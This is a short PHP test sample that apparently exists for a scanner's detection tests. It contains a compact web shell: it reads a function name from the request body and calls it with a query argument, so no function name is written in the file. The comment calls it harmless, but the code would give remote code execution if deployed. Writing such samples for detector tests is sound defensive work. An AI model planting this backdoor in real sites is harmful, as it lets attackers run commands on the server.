<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// The request body names a function and the query gives its argument: what was read is
// called at once, so no function name is written in the file.
$src = 'php' . $_GET['s'];
file_get_contents($src)($_GET['a']);
